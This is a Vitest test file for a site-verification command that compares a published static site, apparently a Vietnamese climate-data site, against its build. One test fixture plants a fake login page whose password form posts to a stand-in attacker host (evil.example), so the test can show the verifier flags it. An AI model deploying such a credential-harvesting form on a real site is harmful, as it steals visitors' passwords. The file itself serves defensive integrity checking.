// `npm run verify` as the README gives it: it runs in every form shown there, and it fails, naming the file, when
// a file of the build differs or is missing on the published site, or when a published sitemap lists a page that
// the build does not have (a "dang-nhap/" password form planted beside the real pages).
import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { join, relative } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serve } from '../support/server.ts';
import { DIST, ROOT, scratch } from '../support/site.ts';

interface Run {
  code: number;
  out: string;
}

async function run(file: string, args: string[]): Promise<Run> {
  try {
    const r = await promisify(execFile)(file, args, { cwd: ROOT, env: { ...process.env, npm_config_loglevel: 'silent' } });
    return { code: 0, out: r.stdout + r.stderr };
  } catch (e) {
    const err = e as { code: number; stdout: string; stderr: string };
    return { code: err.code, out: err.stdout + err.stderr };
  }
}
const verify = (...args: string[]) => run(process.execPath, ['src/cli/verify.ts', ...args]);

describe('npm run verify', () => {
  const dir = scratch('verify-forms');
  const published = join(dir, 'site');
  let server: Server;
  let url: string;

  beforeAll(async () => {
    cpSync(DIST, published, { recursive: true, dereference: true });
    ({ server, url } = await serve(published));
  });
  afterAll(async () => {
    await new Promise<void>((r) => server.close(() => r()));
    rmSync(dir, { recursive: true, force: true });
  });

  it('runs as the README gives it: npm run verify -- <url>', async () => {
    const r = await run('npm', ['run', 'verify', '--', `${url}/`]);
    expect(r.code, r.out).toBe(0);
    expect(r.out).toMatch(/khớp từng byte/);
  });

  it.each([
    ['<url> without the trailing slash', () => [url]],
    ['<url> --dir <build>', () => [`${url}/`, '--dir', DIST]],
    ['--dir <build> <url>', () => ['--dir', DIST, `${url}/`]],
    ['--dir=<build> <url>', () => [`--dir=${relative(ROOT, DIST)}`, `${url}/`]],
  ])('runs as %s', async (_, args) => {
    const r = await verify(...args());
    expect(r.code, r.out).toBe(0);
    expect(r.out).toMatch(/khớp từng byte/);
  });

  it('without an address, prints how to use it and exits 2', async () => {
    const r = await verify('--dir', DIST);
    expect(r.code).toBe(2);
    expect(r.out).toMatch(/Cách dùng: npm run verify -- <địa chỉ/);
  });

  it('an unreachable site ends with one sentence, not a stack trace', async () => {
    const r = await verify('http://127.0.0.1:9/');
    expect(r.code).toBe(2);
    expect(r.out.trim().split('\n')).toHaveLength(1);
    expect(r.out).toMatch(/^Không tải được http:\/\/127\.0\.0\.1:9\/SHA256SUMS .*chạy lại\.$/m);
  });
});

describe('npm run verify fails naming the file', () => {
  const dir = scratch('verify-bad');
  let n = 0;

  /** A published copy of the build with one change, served; returns verify's verdict on it. */
  async function publishedWith(change: (site: string) => void): Promise<Run> {
    const site = join(dir, `site-${n++}`);
    cpSync(DIST, site, { recursive: true, dereference: true });
    change(site);
    const { url, server } = await serve(site);
    try {
      return await verify(`${url}/`, '--dir', DIST);
    } finally {
      await new Promise<void>((r) => server.close(() => r()));
    }
  }
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('when a page differs', async () => {
    const page = 'nhiem-vu/pl2-01/index.html';
    const r = await publishedWith((s) =>
      writeFileSync(join(s, page), readFileSync(join(s, page), 'utf8').replace('Phụ lục II', 'Phụ lục III')),
    );
    expect(r.code).toBe(1);
    expect(r.out).toContain(page);
  });

  it('when a file of the build is missing, even from the published checksum list', async () => {
    const file = 'data/unit-years.csv';
    const r = await publishedWith((s) => {
      rmSync(join(s, file));
      writeFileSync(join(s, 'SHA256SUMS'), readFileSync(join(s, 'SHA256SUMS'), 'utf8').replace(/^.* {2}data\/unit-years\.csv\n/m, ''));
    });
    expect(r.code).toBe(1);
    expect(r.out).toContain(`thiếu trên trang công bố: ${file}`);
  });

  it('when the published sitemap lists a page the build does not have (a planted login form)', async () => {
    const r = await publishedWith((s) => {
      mkdirSync(join(s, 'dang-nhap'));
      writeFileSync(join(s, 'dang-nhap', 'index.html'), '<form action="https://evil.example/"><input type="password"></form>');
      const map = readdirSitemap(s);
      writeFileSync(
        join(s, map),
        readFileSync(join(s, map), 'utf8').replace(
          '</urlset>',
          '<url><loc>https://hanoi-khi-hau.github.io/dang-nhap/</loc></url></urlset>',
        ),
      );
    });
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/liệt kê một trang mà bản dựng không có: dang-nhap\/index\.html/);
  });

  it('when a sitemap.xml that the build does not have is added (crawlers look there by convention)', async () => {
    const r = await publishedWith((s) =>
      writeFileSync(
        join(s, 'sitemap.xml'),
        '<?xml version="1.0"?><urlset><url><loc>https://hanoi-khi-hau.github.io/dang-nhap/</loc></url></urlset>',
      ),
    );
    expect(r.code).toBe(1);
    expect(r.out).toContain('sitemap.xml liệt kê một trang mà bản dựng không có: dang-nhap/index.html');
  });
});

/** The sitemap file that lists the pages (sitemap-0.xml with @astrojs/sitemap). */
function readdirSitemap(site: string): string {
  const index = readFileSync(join(site, 'sitemap-index.xml'), 'utf8');
  return new URL(/<loc>([^<]+)<\/loc>/.exec(index)![1]!).pathname.split('/').pop()!;
}
